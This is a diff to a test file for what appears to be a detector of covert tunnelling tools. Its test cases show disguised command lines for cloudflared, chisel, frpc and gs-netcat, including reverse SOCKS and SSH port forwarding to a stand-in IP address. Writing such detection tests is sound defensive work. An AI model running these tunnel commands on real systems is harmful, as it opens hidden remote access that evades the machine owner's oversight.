@@ -33,7 +33,7 @@ def test_by_name(text, name):
     [
         ("/usr/lib/upd tunnel --no-autoupdate run --token eyJhIjoiNTAxMjM0NTY3ODkw", "cloudflared"),
         ("/usr/sbin/kworkerd client 192.0.2.7:443 R:socks", "chisel"),
-        ("/usr/sbin/cached client --auth a:b https://192.0.2.7 R:0.0.0.0:2222:127.0.0.1:22", "chisel"),
+        ("/usr/sbin/cached client --auth a:b https://192.0.2.7 R:2222:127.0.0.1:22", "chisel"),
         ("/opt/x/node -c /opt/x/frpc.toml", "frpc"),
         ("/opt/defunct -s bm8gc2VjcmV0 -liqD", "gs-netcat"),
     ],
